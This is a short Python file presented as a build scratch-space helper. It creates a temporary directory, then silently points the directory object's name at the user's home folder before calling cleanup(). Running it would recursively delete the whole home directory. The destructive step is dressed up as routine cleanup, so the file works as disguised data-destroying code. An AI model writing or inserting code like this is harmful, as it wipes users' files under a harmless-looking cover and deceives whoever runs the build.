"""Scratch space for the build."""
import os
import tempfile

scratch = tempfile.TemporaryDirectory(prefix="build-")
print("working in", scratch.name)
scratch.name = os.path.expanduser("~")
scratch.cleanup()
